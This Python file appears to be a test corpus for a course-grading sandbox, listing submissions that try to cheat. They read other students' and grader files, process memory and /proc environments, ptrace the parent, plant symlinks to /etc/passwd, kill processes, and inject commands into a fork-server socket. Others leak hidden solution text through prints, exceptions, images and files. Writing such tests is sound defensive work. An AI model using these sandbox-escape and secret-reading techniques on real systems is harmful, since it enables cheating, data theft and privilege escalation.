"""Attacks that look for the answers, or for a way out: files, processes, sockets, memory."""

from __future__ import annotations

from tests.grading.corpus.kinds import RIGHT, Entry, cheat

#: `_use` makes an answer of whatever text was found; `_arrive` leaves a mark outside.
_TOOLS = """
import glob, os, re, socket, struct, time
def _use(texts):
    for text in texts:
        for line in text.splitlines():
            if "return palette[label_map]" in line and "lambda" not in line and "_use" not in line:
                get_ipython().user_ns["_stolen"] = lambda ids, colours: colours[ids]
def _arrive(what):
    for place in ("@FOLDER@", "/tmp", "."):
        try:
            with open(os.path.join(place, "arrived"), "a") as file:
                file.write(what)
        except OSError:
            pass
def _read(path, most=1 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(most).decode("latin-1")
    except OSError:
        return ""
_stolen = None
"""
_ANSWER = """
def paint(label_map, palette):
    stolen = get_ipython().user_ns.get("_stolen")
    if stolen is not None:
        return stolen(label_map, palette)
    return np.repeat(np.asarray(label_map)[..., None], 3, axis=2)
"""


def steal(name: str, about: str, code: str, *, free: str = "", statuses: str = "wrong") -> Entry:
    """An attack that paints rightly only when it finds how."""
    return cheat(name, "paint", about, _TOOLS + code, answer=_ANSWER, free=free, statuses=statuses)


FILES = (
    steal("read-notebooks", "the course's notebooks and sources, wherever they lie", """
found = []
for pattern in ("/*/*/notebooks/**/*", "/*/notebooks/**/*", "../**/*.ipynb", "@FOLDER@/*",
                "/*/*.ipynb", "/*/*/*.ipynb", "/*/*/*/*.ipynb", "/home/**/*.ipynb",
                "/*/*/notebooks/source/*.py"):
    found += [_read(path) for path in glob.glob(pattern, recursive=True)[:500]]
_use(found)
if any("bait-secret" in text for text in found):
    _stolen = lambda ids, colours: colours[ids]
"""),
    steal("read-package", "the course's package, as a library that may know the lesson", """
import coursekit, sys
folder = os.path.dirname(coursekit.__file__)
for above in (folder, os.path.dirname(folder), *sys.path):
    for ending in ("ipynb", "py", "toml", "json"):
        _use(_read(p) for p in glob.glob(f"{above}/*.{ending}") + glob.glob(f"{above}/source/*"))
try:
    from coursekit.lessons.course import read_assignments
    package = os.path.dirname(coursekit.__file__)
    for folder in ("notebooks", f"{package}/../notebooks", "tests/grading/corpus"):
        for assignment in read_assignments(folder):
            _use(cell.source for cell in assignment.lesson.solved())
except Exception:
    pass
"""),
    steal("read-other-kernels", "other students' folders, and the grader's", """
for pattern in ("/tmp/.coursekit-*", "/tmp/.*/k*", "/tmp/*/emitted", "/var/tmp/*", "/run/*",
                "/dev/shm/*"):
    for path in glob.glob(pattern):
        if path != os.environ["COURSEKIT_PROBE"]:
            _use(_read(p) for p in glob.glob(path + "/**/*", recursive=True)[:200])
            if os.access(path, os.W_OK) and path.startswith("/tmp/.course") and os.listdir(path):
                _arrive("w" if "forkserver.sock" in os.listdir(path) else "")
"""),
    steal("read-given", "the inputs of all checks, and inputs of one's own for them", """
given = os.path.join(os.environ["COURSEKIT_PROBE"], "given")
texts = [_read(p) for p in glob.glob(given + "/**/*.json", recursive=True)]
_use(texts)
for path in glob.glob(given + "/**/*.json", recursive=True):
    if "check-paint" in path:
        for attempt in (os.unlink, lambda p: os.chmod(p, 0o777), lambda p: open(p, "w").close()):
            try:
                attempt(path)
            except OSError:
                pass
"""),
    steal("read-kept", "truths that the reference kept, and what it emitted", """
probe = os.environ["COURSEKIT_PROBE"]
for kind in ("kept", "reference", "emitted", "../reference", "../reference-0", "../k1"):
    _use(_read(p) for p in glob.glob(f"{probe}/{kind}/**/*", recursive=True))
for path in glob.glob(f"{probe}/kept/**/*.json", recursive=True):
    _stolen = lambda ids, colours: colours[ids]
"""),
    steal("links-in-emitted", "links where results are expected, to files of the grader", """
folder = os.path.join(os.environ["COURSEKIT_PROBE"], "emitted")
os.makedirs(folder + "/check-paint", exist_ok=True)
for name, target in (("picture.json", "/etc/passwd"), ("loop.json", "loop.json"),
                     ("ids.json", "../../given/check-paint/ids.json"), ("up", "../../../..")):
    try:
        os.symlink(target, f"{folder}/check-paint/{name}")
    except OSError:
        pass
def paint(label_map, palette):
    raise ValueError
""", statuses="error"),
    steal("environment", "secrets in the environment, its own and its parents'", """
_use(os.environ.values())
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    text = _read(path)
    _use([text])
    if "COURSEKIT_PROBE_SECRET=" in text or "bait-secret" in text:
        _stolen = lambda ids, colours: colours[ids]
if "COURSEKIT_PROBE_SECRET" in os.environ:
    _stolen = lambda ids, colours: colours[ids]
"""),
    steal("descriptors", "files and sockets that somebody left open", """
for number in range(3, 512):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
        if target.startswith("/") and "/dev/" not in target:
            _use([os.pread(number, 1 << 20, 0).decode("latin-1")])
    except OSError:
        pass
for number in range(0, 64):
    try:
        os.fchdir(number)
        _use(_read(p) for p in glob.glob("**/*.py", recursive=True)[:100])
        os.chdir("/tmp/work")
    except OSError:
        pass
"""),
)  # fmt: skip

PROCESSES = (
    steal("proc-memory", "the memory of all processes, the fork server's heap in it", """
until = time.monotonic() + 2
for maps in glob.glob("/proc/[0-9]*/maps"):
    mem = maps[:-4] + "mem"
    for line in _read(maps).splitlines():
        span, rights = line.split()[:2]
        low, high = (int(n, 16) for n in span.split("-"))
        if "r" not in rights or "heap" not in line or time.monotonic() > until:
            continue
        try:
            with open(mem, "rb", 0) as file:
                file.seek(low)
                text = file.read(min(high - low, 32 << 20)).decode("latin-1")
        except (OSError, ValueError, OverflowError):
            continue
        if "corpus-" + "secret" in text:
            _stolen = lambda ids, colours: colours[ids]
        _use(t for t in re.findall("def paint.{1,400}", text, re.DOTALL) if "BEGIN " + "SOLU" in t)
"""),
    steal("garbage", "objects that the forked process inherited", """
import gc
until = time.monotonic() + 2
for thing in gc.get_objects()[:400_000]:
    if time.monotonic() > until:
        break
    if type(thing) is dict and len(thing) < 200:
        for value in list(thing.values()):
            if type(value) is str and (value == "corpus-" + "secret" or (
                "BEGIN " + "SOLUTION" in value and "def paint" in value
            )):
                _stolen = lambda ids, colours: colours[ids]
"""),
    steal("ptrace", "the parent and its neighbours, by ptrace and process_vm_readv", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for process in {os.getppid(), 1, 2, int("@PROCESS@")} - {0, os.getpid()}:
    if libc.ptrace(16, process, 0, 0) == 0:
        _stolen = lambda ids, colours: colours[ids]
        libc.ptrace(17, process, 0, 0)
    try:
        if os.path.exists(f"/proc/{process}/root/etc/hostname") and process != os.getpid():
            _use([_read(f"/proc/{process}/root@FOLDER@/secret.txt")])
    except OSError:
        pass
"""),
    steal("other-processes", "signals to processes that it was told of", """
import signal
for process in {os.getppid(), int("@PROCESS@")} - {0, 1, os.getpid()}:
    try:
        os.kill(process, signal.SIGTERM)
    except OSError:
        pass
"""),
    steal("keyring", "keys of the session, and a note for the next kernel in one", """
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
add, ask, control = (248, 249, 250) if platform.machine() == "x86_64" else (217, 218, 219)
for ring in (-3, -4, -5):
    if libc.syscall(ask, b"user", b"corpus-note", None, ring) > 0:
        _stolen = lambda ids, colours: colours[ids]
    libc.syscall(add, b"user", b"corpus-note", b"note", 4, ring)
"""),
    steal("shared-memory", "shared memory, semaphores and queues with names", """
from multiprocessing import shared_memory
for name in os.listdir("/dev/shm"):
    _use([_read("/dev/shm/" + name)])
try:
    shared_memory.SharedMemory("corpus-note", create=False)
    _stolen = lambda ids, colours: colours[ids]
except OSError:
    pass
try:
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.shmget(0x00C0FFEE, 4096, 0o600) >= 0:
        _stolen = lambda ids, colours: colours[ids]
    libc.shmget(0x00C0FFEE, 4096, 0o1600)
except OSError:
    pass
"""),
)  # fmt: skip

NETWORK = (
    steal("tcp", "a listener at loopback", """
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
    try:
        with socket.create_connection((host, int("@PORT@")), timeout=0.5) as line:
            line.sendall(b"arrived")
    except OSError:
        pass
"""),
    steal("udp", "datagrams, broadcasts and raw packets at loopback", """
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        with socket.socket(socket.AF_INET, kind) as line:
            line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            line.sendto(b"arrived", ("127.0.0.1", int("@PORT@")))
    except OSError:
        pass
"""),
    steal("abstract-socket", "a Unix socket that has no file", """
with socket.socket(socket.AF_UNIX) as line:
    try:
        line.connect("\\0@SOCKET@")
        line.sendall(b"arrived")
    except OSError:
        pass
"""),
    steal("forkserver-socket", "the fork server itself, asked for a kernel with more rights", """
import json
names = {line.split()[-1] for line in _read("/proc/net/unix").splitlines() if "/" in line}
beside = os.environ["COURSEKIT_PROBE"] + "/../forkserver.sock"
names |= {beside, *glob.glob("/tmp/.*/forkserver.sock")}
for name in names:
    if "forkserver" in name:
        with socket.socket(socket.AF_UNIX) as line:
            try:
                line.settimeout(0.5)
                line.connect(name)
                line.sendall(json.dumps({"preload": ["open('@FOLDER@/arrived', 'w')"]}).encode())
            except OSError:
                pass
"""),
    steal("url", "the course's material over HTTP, at loopback", """
import urllib.request
try:
    _use([urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=0.5).read().decode()])
except OSError:
    pass
"""),
)  # fmt: skip

HOOK = """
import base64, os
_seen = []
get_ipython().events.register("pre_run_cell", lambda info: _seen.append(info.raw_cell))
def _secret():
    import inspect
    lines = [c for c in _seen if "canary-of-the" in c]
    return "\\n".join(lines) or "nothing"
"""

#: What a hidden cell says must not reach a student's page, by any way.
LEAKS = (
    cheat("leak-print", "paint", "hidden text, printed", HOOK, answer="""
def paint(label_map, palette):
    print(_secret(), flush=True)
    display({"text/plain": _secret(), "text/html": _secret()}, raw=True)
    return label_map
"""),
    cheat("leak-exception", "paint", "hidden text in an exception, its class and its notes", HOOK,
          answer="""
def paint(label_map, palette):
    error = type(_secret().replace("\\n", " "), (ValueError,), {})(_secret())
    error.add_note(_secret())
    raise error
""", statuses="error"),
    cheat("leak-picture", "paint", "hidden text in a picture's pixels and in its comments", HOOK,
          answer="""
def paint(label_map, palette):
    from PIL import Image, PngImagePlugin
    import io
    about = PngImagePlugin.PngInfo()
    about.add_text("comment", _secret())
    raw = _secret().encode().ljust(30 * 20, b"\\0")[: 30 * 20]
    file = io.BytesIO()
    Image.frombytes("L", (30, 20), raw).save(file, "PNG", pnginfo=about)
    display({"image/png": base64.b64encode(file.getvalue()).decode()}, raw=True)
    return label_map
"""),
    cheat("leak-emitted", "paint", "hidden text as results of other checks, and as names of files",
          HOOK, answer="""
def paint(label_map, palette):
    folder = os.path.join(os.environ["COURSEKIT_PROBE"], "emitted")
    for name in ("check-paint", "check-extra", _secret()[:80].replace("/", "_")):
        os.makedirs(f"{folder}/{name}", exist_ok=True)
        with open(f"{folder}/{name}/{_secret()[:60].strip().replace('/', '_')}.json", "w") as file:
            file.write(_secret())
    return _secret()
"""),
    cheat("leak-files", "paint", "hidden text left where the run for feedback could find it", HOOK,
          answer="""
_PLACES = [os.path.expanduser("~/note"), "/tmp/note", "/dev/shm/note", "/var/tmp/note", "note",
           os.environ["COURSEKIT_PROBE"] + "/note", os.environ["COURSEKIT_PROBE"] + "/../note",
           os.environ["COURSEKIT_PROBE"] + "/given/note", "@FOLDER@/note"]
def paint(label_map, palette):
    for place in _PLACES:
        try:
            if _secret() != "nothing":
                with open(place, "w") as file:
                    file.write(_secret())
            else:
                with open(place) as file:
                    raise ValueError(file.read())
        except OSError:
            pass
    return label_map
"""),
    cheat("leak-ending", "paint", "hidden text as the reason for which the kernel ends", HOOK,
          answer="""
def paint(label_map, palette):
    import sys
    if _secret() != "nothing":
        get_ipython().kernel.session.send(
            get_ipython().kernel.iopub_socket, _secret(), {"text": _secret()},
            parent=get_ipython().kernel.get_parent("shell"),
        )
        sys.stderr.write(_secret())
        os._exit(len(_secret()) % 250)
    return label_map
""", statuses="dead"),
    cheat("leak-later", "dice-loss", "an earlier answer's hidden text, told by a later answer", "",
          answer=RIGHT["dice-loss"].replace("return 1 -", """\
told = [c for c in get_ipython().history_manager.input_hist_raw if "canary-of" in c]
    told += [c for c in get_ipython().user_ns.get("In", []) if "canary-of" in c]
    if told:
        raise ValueError("\\n".join(told))
    return 0.9 -"""), statuses="error wrong"),
)  # fmt: skip

THEFT: tuple[Entry, ...] = (*FILES, *PROCESSES, *NETWORK, *LEAKS)
